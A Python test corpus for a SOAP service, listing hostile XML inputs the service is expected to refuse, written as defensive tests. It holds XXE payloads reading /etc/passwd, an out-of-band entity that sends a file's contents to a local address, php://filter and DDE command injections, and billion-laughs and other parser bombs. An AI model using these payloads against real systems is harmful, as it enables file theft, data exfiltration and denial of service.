"""Attacks on XML parsers: each is refused, at once, and nothing is read or fetched for it."""

from tests.soap.corpus.forms import (
    DOCUMENT,
    QUESTION,
    SOAP_11,
    SOAP_12,
    Case,
    asking,
    call,
    envelope,
    numbered,
    refused,
    same,
    with_header,
)

_STOLEN = asking("<cpf>&a;</cpf>")
_CPF = f"<cpf>{DOCUMENT}</cpf>"
_ATTRIBUTE = 'a{}=""'
_LAUGHS = "".join(f"<!ENTITY a{i} '" + f"&a{i - 1};" * 10 + "'>" for i in range(1, 12))


def _dtd(subset: str, question: str = _STOLEN, external: str = "") -> str:
    return f"<!DOCTYPE e:Envelope {external}[{subset}]>{question}"


_DTD = [
    refused("a DTD", f"<!DOCTYPE x>{QUESTION}"),
    refused("a DTD with a declaration before it", f'<?xml version="1.0"?>\n<!DOCTYPE x>{QUESTION}'),
    refused("an empty internal subset", _dtd("", QUESTION)),
    refused("an external DTD", f'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">{QUESTION}'),
    refused("a public DTD", f'<!DOCTYPE x PUBLIC "-//X" "http://127.0.0.1:9/x.dtd">{QUESTION}'),
    refused("an external DTD and a subset", _dtd("", QUESTION, 'SYSTEM "file:///etc/passwd" ')),
    refused("an entity", _dtd(f'<!ENTITY a "{DOCUMENT}">')),
    refused("an entity that is a file", _dtd('<!ENTITY a SYSTEM "file:///etc/passwd">')),
    refused("an entity that is a relative file", _dtd('<!ENTITY a SYSTEM "service.log">')),
    refused("an entity that is a device without end", _dtd('<!ENTITY a SYSTEM "file:///dev/zero">')),
    refused("an entity that is an address", _dtd('<!ENTITY a SYSTEM "http://127.0.0.1:9/">')),
    refused(
        "an entity that is an address of PHP",
        _dtd('<!ENTITY a SYSTEM "php://filter/read=convert.base64-encode/resource=x">'),
    ),
    refused("an entity that is not parsed", _dtd('<!NOTATION n SYSTEM "n"><!ENTITY a SYSTEM "x" NDATA n>')),
    refused("a billion laughs", _dtd(f'<!ENTITY a0 "ha">{_LAUGHS}<!ENTITY a "&a11;">')),
    refused("a billion laughs in an attribute", _dtd(f'<!ENTITY a0 "ha">{_LAUGHS}', asking('<cpf x="&a11;"/>'))),
    refused("a quadratic blowup", _dtd(f'<!ENTITY a "{"a" * 30_000}">', asking(f"<cpf>{'&a;' * 8_000}</cpf>"))),
    refused("an entity that holds itself", _dtd('<!ENTITY a "&b;"><!ENTITY b "&a;">')),
    refused("a parameter entity", _dtd("<!ENTITY % p \"<!ENTITY a '1'>\">%p;")),
    refused("a parameter entity that is a file", _dtd('<!ENTITY % p SYSTEM "file:///etc/passwd">%p;', QUESTION)),
    refused(
        "a parameter entity that sends a file away",
        _dtd(
            '<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % p "<!ENTITY &#37; s SYSTEM \'http://127.0.0.1:9/?%f;\'>">%p;%s;'
        ),
    ),
    refused("parameter entities that hold one another", _dtd('<!ENTITY % a "%b;"><!ENTITY % b "%a;">%a;')),
    refused("attributes by default", _dtd(f'<!ATTLIST cpf xmlns:i CDATA #FIXED "{SOAP_11}">', QUESTION)),
    refused(
        "many attributes by default",
        _dtd(f"<!ATTLIST x {numbered('a{} CDATA #IMPLIED', 3_000)}>", QUESTION),
    ),
    refused("a DTD in UTF-16", _dtd('<!ENTITY a "1">').encode("utf-16"), content_type="text/xml"),
    refused("a DTD in Latin-1", _dtd('<!ENTITY ç "1">').encode("latin-1"), content_type="text/xml; charset=iso-8859-1"),
    refused("a DTD in SOAP 1.2", _dtd('<!ENTITY a "1">', asking("<cpf>&a;</cpf>", soap=SOAP_12))),
    refused("a DTD inside the envelope", QUESTION.replace("<e:Body>", "<!DOCTYPE x><e:Body>")),
    refused("a DTD without an end", '<!DOCTYPE x [<!ENTITY a "' + "b" * 60_000),
    refused("a DTD of conditional sections", f'<!DOCTYPE x [<![INCLUDE[<!ENTITY a "1">]]>]>{_STOLEN}'),
]

_INSTRUCTIONS = [
    refused("a processing instruction", f"<?x y?>{QUESTION}"),
    refused("a stylesheet", f'<?xml version="1.0"?><?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?>{QUESTION}'),
    refused("a processing instruction inside an argument", asking(f"<cpf><?php system('id') ?>{DOCUMENT}</cpf>")),
    refused("a processing instruction behind the envelope", f"{QUESTION}<?x?>"),
    refused("a processing instruction in SOAP 1.2", asking(f"<?x?>{_CPF}", soap=SOAP_12), soap=SOAP_12, status=400),
]

_BOMBS = [
    same("a comment of 60,000 characters", asking(f"<!--{'x' * 60_000}-->{_CPF}")),
    same("8,000 comments", asking("<!---->" * 8_000 + _CPF)),
    same("5,000 empty CDATA sections", asking(f"<cpf>{'<![CDATA[]]>' * 5_000}{DOCUMENT}</cpf>")),
    same("an attribute of 60,000 characters", asking(f'<x a="{"x" * 60_000}"/>{_CPF}')),
    same("an attribute of 9,000 references", asking(f'<x a="{"&#120;" * 9_000}"/>{_CPF}')),
    same("an unknown element's name of 30,000 letters", asking(f"<{'x' * 30_000}/>{_CPF}")),
    same("a prefix of 20,000 letters", asking(f'<{"x" * 20_000}:y xmlns:{"x" * 20_000}="urn:x"/>{_CPF}')),
    same("a namespace of 60,000 letters", asking(f'<x xmlns="{"u" * 60_000}"/>{_CPF}')),
    same(
        "1,900 elements with a namespace of their own",
        asking(numbered('<x xmlns="u{}"/>', 1_900) + _CPF),
    ),
    same("1,000 elements of 8 attributes", asking(f"<x {numbered(_ATTRIBUTE, 8)}/>" * 1_000 + _CPF)),
    same("1,900 elements with a name of their own", asking(numbered("<a{}/>", 1_900) + _CPF)),
    refused("a comment without an end", asking("<!--" + "-" * 60_000)),
    refused("a CDATA section without an end, full of its ends", asking("<![CDATA[" + "]" * 60_000)),
    refused("a tag without an end", asking("<x" + " " * 60_000)),
    refused("65,000 angle brackets", "<" * 65_000),
    refused("65,000 ampersands", asking("&" * 60_000)),
    refused("an attribute without an end", asking('<x a="' + "x" * 60_000)),
    refused(
        "an XML declaration that never comes to its encoding", "<?xml " + "encoding " * 7_000, content_type="text/xml"
    ),
    refused("an XML declaration of spaces", "<?xml encoding" + " " * 64_000, content_type="text/xml"),
    refused("60,000 spaces and half a tag", " " * 60_000 + "<", content_type="text/xml"),
    refused("a charset parameter of semicolons", "x", content_type="text/xml" + "; charset " * 1_500),
    refused("header blocks inside one another", with_header("<h:x>" * 5_000)),
    refused(
        "a header bomb of WS-Security",
        with_header('<h:S e:mustUnderstand="1">' + "<h:T>x</h:T>" * 1_900 + "</h:S>"),
        "",
        faultcode="MustUnderstand",
    ),
    refused("an operation wrapped in itself", envelope(call("<cpf>" * 30 + "</cpf>" * 30))),
    refused("an XML bomb of Office", asking("<cpf><a:x xmlns:a=\"urn:a\">=cmd|'/c calc'!A0</a:x></cpf>")),
]

HOSTILE: list[Case] = [*_DTD, *_INSTRUCTIONS, *_BOMBS]
